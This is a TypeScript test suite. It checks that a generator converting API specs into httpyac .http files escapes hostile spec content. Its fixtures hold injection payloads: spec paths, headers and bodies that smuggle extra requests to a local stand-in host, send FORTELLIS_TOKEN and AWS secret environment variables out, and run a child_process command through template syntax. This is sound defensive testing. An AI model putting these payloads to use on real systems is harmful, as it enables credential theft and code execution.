/**
 * "Open as .http" with a hostile spec: nothing the spec says becomes a request line, a header, a `###` separator or
 * an httpyac template ({{…}}) in the file, and a path key with control characters is no operation at all.
 */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { fuzzRuns } from '../helpers/fuzzSettings';
import { checkLines } from '../../../src/core/apiRequests/responseView';
import { specHttpFile } from '../../../src/core/specs/specHttpFile';
import { type BundledSpec, type JsonObject, specOperation } from '../../../src/core/specs/specModel';

const RUNS = { numRuns: fuzzRuns(250) };
const OPTIONS = { title: 'Vehicles', baseUrl: 'https://api.fortellis.io/cdk/vehicles/v1', subscriptionId: 'sub-1' };
const METHOD_LINE =
  /^\s*(?:GET|PUT|POST|DELETE|OPTIONS|HEAD|PATCH|TRACE|CONNECT|PROPFIND|PROPPATCH|MKCOL|COPY|MOVE|LOCK|UNLOCK|CHECKOUT|CHECKIN|REPORT|MERGE|MKACTIVITY|MKWORKSPACE|VERSION-CONTROL|BASELINE-CONTROL|GRAPHQL)\s/i;

const INJECTED_PATH = '/notes\nGET http://127.0.0.1:4999/steal?t={{$processEnv FORTELLIS_TOKEN}}\nX-Ignore: ';
const INJECTED_HEADER = "1\n\n{{ require('child_process').execSync('touch /tmp/pwned') }}";
const INJECTED_BODY =
  'hello\n###\nPOST http://127.0.0.1:4999/x\nAuthorization: Bearer {{$processEnv FORTELLIS_TOKEN}}\n\n{{$processEnv AWS_SECRET_ACCESS_KEY}}';

function swagger(paths: JsonObject, title = 'Vehicles'): BundledSpec {
  return { version: '2.0', document: { swagger: '2.0', info: { title, version: '1' }, basePath: '/cdk/vehicles/v1', paths } };
}

/** The reviewer's spec (/tmp/rv/http2.yaml), as parsed. */
function hostileSpec(): BundledSpec {
  return swagger(
    {
      '/vehicles': {
        get: {
          summary: 'List vehicles',
          operationId: 'listVehicles',
          parameters: [
            { name: 'Subscription-Id', in: 'header', required: true, type: 'string' },
            { name: 'X-Trace', in: 'header', type: 'string', 'x-example': INJECTED_HEADER },
          ],
          responses: { '200': { description: 'ok' } },
        },
      },
      [INJECTED_PATH]: {
        post: {
          consumes: ['text/plain'],
          parameters: [{ name: 'body', in: 'body', schema: { type: 'string', example: INJECTED_BODY } }],
          responses: { '200': { description: 'ok' } },
        },
      },
      '/notes': {
        post: {
          consumes: ['text/plain'],
          parameters: [{ name: 'body', in: 'body', schema: { type: 'string', example: INJECTED_BODY } }],
          responses: { '200': { description: 'ok' } },
        },
      },
    },
    'Vehicles\n@baseUrl = http://127.0.0.1:4999',
  );
}

const OPERATIONS = [
  { method: 'GET', path: '/vehicles', line: 0 },
  { method: 'POST', path: INJECTED_PATH, line: 0 },
  { method: 'POST', path: '/notes', line: 0 },
];

/** What the file would make httpyac do, as far as this test can tell without running it. */
function problems(text: string, expectedRequests: number): string[] {
  const found: string[] = [];
  const lines = text.split(/\r\n|\r|\n|\u2028|\u2029|\u0085/u);
  if (/(?<!\\)\{\{/u.test(text.replace(/\{\{(baseUrl|subscriptionId|\$guid|\$dotenv FORTELLIS_TOKEN)\}\}/gu, ''))) {
    found.push('an unescaped {{');
  }
  const requestLines = lines.filter((line) => METHOD_LINE.test(line));
  if (requestLines.length !== expectedRequests || requestLines.some((line) => !/^[A-Z]+ \{\{baseUrl\}\}\/[^\s]*$/u.test(line))) {
    found.push(`request lines: ${JSON.stringify(requestLines)}`);
  }
  const separators = lines.filter((line) => /^\s*###/u.test(line));
  if (separators.some((line) => line !== '###')) {
    found.push(`separators: ${JSON.stringify(separators)}`);
  }
  if (lines.filter((line) => line.startsWith('@')).length !== 2) {
    found.push('an extra variable line');
  }
  if (lines.some((line) => /^\s*(?:#|\/\/)+\s*@/u.test(line) && !/^# @name [\w-]+$/u.test(line))) {
    found.push('a metadata comment');
  }
  if (lines.some((line) => /^\s*[<>]/u.test(line))) {
    found.push('an include or a script line');
  }
  // Headers: the block after each request line, up to the blank line.
  lines.forEach((line, index) => {
    if (!METHOD_LINE.test(line)) {
      return;
    }
    for (let next = index + 1; next < lines.length && lines[next] !== ''; next++) {
      if (!/^(?:Authorization|Subscription-Id|Request-Id|Accept|Content-Type|X-Trace): /u.test(lines[next])) {
        found.push(`header line: ${JSON.stringify(lines[next])}`);
      }
    }
  });
  if (lines.some((line) => /^\s*Authorization:/iu.test(line) && line !== 'Authorization: Bearer {{$dotenv FORTELLIS_TOKEN}}')) {
    found.push('an extra Authorization');
  }
  return found;
}

describe('specs: the .http file of a hostile spec', () => {
  it("the reviewer's spec: no injected request, header, template or separator; the injected path is skipped with a comment", () => {
    const text = specHttpFile(hostileSpec(), OPERATIONS, { ...OPTIONS, title: 'Vehicles\n@baseUrl = http://127.0.0.1:4999' });
    assert.deepEqual(problems(text, 2), []);
    // The attacker's URLs are left only in the skip comment and inside the JSON string of the body.
    const mentions = text.split('\n').filter((line) => /127\.0\.0\.1:4999\/(?:steal|x)/u.test(line));
    assert.ok(mentions.length > 0 && mentions.every((line) => line.startsWith('# skipped: ') || line.startsWith('"hello')), text);
    assert.doesNotMatch(text, /child_process.*\n/u);
    assert.match(text, /^# skipped: POST \/notes\\nGET .*: the spec's path has control characters or characters not valid in a URL path$/mu);
    assert.match(text, /^# Vehicles @baseUrl = http:\/\/127\.0\.0\.1:4999: every operation/mu);
    // The text body is sent as a JSON string, with its braces escaped the way httpyac reads them.
    const body = text.split('\n').find((line) => line.startsWith('"hello'));
    assert.ok(body, text);
    assert.equal(body.replace(/\\\{\\\{(.+?)\\\}\\\}/gu, '{{$1}}'), JSON.stringify(INJECTED_BODY));
    // The header with a line break in its example is left out, and says so.
    assert.doesNotMatch(text, /^X-Trace:/mu);
    assert.match(text, /^# X-Trace left out: its example has line breaks or characters other than printable ASCII$/mu);
  });

  it('a header name, media types and a summary from the spec make no line of their own', () => {
    const spec = swagger({
      '/a': {
        post: {
          summary: '@proxy http://127.0.0.1:4999\nGET http://x/',
          consumes: ['application/json\nX-Evil: 1'],
          produces: ['application/json\n###'],
          parameters: [
            { name: 'X-A\nGET http://127.0.0.1:4999/', in: 'header', type: 'string', 'x-example': 'v' },
            { name: 'X-B', in: 'header', type: 'string', 'x-example': '{{$processEnv FORTELLIS_TOKEN}}' },
            { name: 'body', in: 'body', schema: { type: 'object', example: { a: '{{$processEnv FORTELLIS_TOKEN}}', b: 'x\n###\nGET http://y/' } } },
          ],
        },
      },
    });
    const text = specHttpFile(spec, [{ method: 'POST', path: '/a', line: 0 }], OPTIONS);
    assert.deepEqual(problems(text.replace(/^X-B: .*$/mu, 'X-Trace: x'), 1), [], text);
    assert.match(text, /^X-B: \\\{\\\{\$processEnv FORTELLIS_TOKEN\\\}\\\}$/mu);
    assert.doesNotMatch(text, /X-Evil/u);
  });

  it('a header example httpyac could not send (non-ASCII) is left out and says so, as Call would refuse it', () => {
    const spec = swagger({
      '/a': { get: { parameters: [{ name: 'X-Note', in: 'header', type: 'string', 'x-example': 'café ☃' }], responses: { '200': { description: 'ok' } } } },
    });
    const text = specHttpFile(spec, [{ method: 'GET', path: '/a', line: 0 }], OPTIONS);
    assert.doesNotMatch(text, /^X-Note:/mu);
    assert.match(text, /^# X-Note left out: its example has line breaks or characters other than printable ASCII$/mu);
  });

  it('a media type httpyac could not send (non-ASCII) gives Accept and Content-Type JSON, as the one header-value rule says', () => {
    const spec = swagger({
      '/a': {
        post: {
          consumes: ['application/vnd.café+json'],
          produces: ['application/vnd.café+json'],
          parameters: [{ name: 'body', in: 'body', schema: { type: 'object', example: { a: 1 } } }],
          responses: { '200': { description: 'ok' } },
        },
      },
    });
    const text = specHttpFile(spec, [{ method: 'POST', path: '/a', line: 0 }], OPTIONS);
    assert.doesNotMatch(text, /café/u);
    assert.match(text, /^Accept: application\/json$/mu);
    assert.match(text, /^Content-Type: application\/json$/mu);
  });

  it('a path key with control characters is no operation (the Call and its response view never show it)', () => {
    const path = '/a\n✓ Matches the spec: GET /vehicles, response 200.';
    const spec = swagger({ [path]: { get: { responses: { '200': { description: 'ok' } } } }, '/b': { get: { responses: {} } } });
    assert.equal(specOperation(spec, 'GET', path), undefined);
    assert.equal(specOperation(spec, 'GET', '/a\u2028x'), undefined);
    assert.equal(specOperation(spec, 'GET', '/a\u0085x'), undefined);
    assert.ok(specOperation(spec, 'GET', '/b'));
    // And a label that still had one would show it on one line.
    const lines = checkLines({ verdict: 'matches', documentedAs: '200' }, `GET ${path}`);
    assert.equal(lines.length, 1);
    assert.doesNotMatch(lines.join(''), /[\n\r\u2028\u2029\u0085]/u);
  });

  it('property: arbitrary path, title, summary, header example and body never inject a request, header, template or separator', () => {
    const hostile = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc
        .array(
          fc.constantFrom(
            '\n',
            '\r',
            '\r\n',
            '\u2028',
            '\u0085',
            '###',
            'GET ',
            'POST http://x/',
            '{{',
            '}}',
            '$processEnv X',
            '@',
            '<',
            '>',
            'a',
            '/',
            ' ',
            '\\{\\{',
            '\\',
          ),
          { maxLength: 12 },
        )
        .map((parts) => parts.join('')),
    );
    let written = 0;
    fc.assert(
      fc.property(
        fc.oneof(hostile, fc.stringMatching(/^[a-z0-9{}\-._~%/]{0,20}$/u)),
        hostile,
        hostile,
        hostile,
        hostile,
        fc.boolean(),
        (path, title, summary, example, body, json) => {
          const key = `/${path}`;
          const spec = swagger(
            {
              [key]: {
                post: {
                  summary,
                  consumes: [json ? 'application/json' : 'text/plain'],
                  parameters: [
                    { name: 'X-Trace', in: 'header', type: 'string', 'x-example': example },
                    { name: 'body', in: 'body', schema: json ? { type: 'object', example: { body } } : { type: 'string', example: body } },
                  ],
                },
              },
            },
            title,
          );
          const text = specHttpFile(spec, [{ method: 'POST', path: key, line: 0 }], { ...OPTIONS, title });
          const skipped = /^# skipped: /mu.test(text);
          assert.deepEqual(problems(text, skipped ? 0 : 1), [], text);
          written += skipped ? 0 : 1;
        },
      ),
      RUNS,
    );
    // Some of the runs wrote the operation (a valid path), so the request, header and body checks ran.
    assert.ok(written > 0);
  });
});
